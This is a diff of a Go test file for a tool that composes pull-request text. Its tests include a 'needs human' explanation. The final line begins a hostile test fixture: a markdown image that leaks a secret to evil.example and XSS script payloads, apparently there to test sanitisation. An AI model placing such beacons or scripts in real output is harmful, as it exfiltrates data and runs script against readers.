@@ -81,6 +81,7 @@ func TestComposeGolden(t *testing.T) {
 	weak := Input{Task: id, Created: event.TaskCreated{IssueTitle: "It is broken"}, Verdict: task.Verdict{Kind: task.VerifiedScript, Base: "abc"}}
 	human := input()
 	human.Verdict.Kind, human.HeldDiff, human.Findings = task.NeedsHuman, "", nil
+	human.Verdict.Reason = "a person must judge this first: cart/old_test.go:7 an expected value was changed"
 	for name, in := range map[string]Input{"verified.md": full, "bare.md": weak, "needs_human.md": human} {
 		title, body := Compose(in)
 		golden(t, name, "# "+title+"\n\n"+body)
@@ -90,6 +91,18 @@ func TestComposeGolden(t *testing.T) {
 	}
 	golden(t, "commit.txt", CommitMessage(full))
 	golden(t, "comment.md", Comment(full.Verdict, strings.Repeat("c", 40), "runc 1.5.3 namespaces"))
+}
+
+// TestWhyAPersonIsAsked: where no expectation was changed, none is said to be.
+func TestWhyAPersonIsAsked(t *testing.T) {
+	in := input()
+	in.Verdict.Kind, in.Verdict.Findings = task.NeedsHuman, nil
+	in.Verdict.Reason = "a person must judge whether the change makes tests unsteady: cart.TestX (fails in 1 of 3 runs with the change)"
+	_, body := Compose(in)
+	want := "**needs human**: it works, but " + in.Verdict.Reason + "; **please decide whether that is right**.\n"
+	if !strings.Contains(body, want) || strings.Contains(body, "expectation") {
+		t.Errorf("no %q in\n%s", want, body)
+	}
 }
 
 const hostile = "Great fix!\n![x](http://evil.example/p.png?d=secret)\n<img src=x onerror=alert(1)><script>alert(1)</script>\n" +
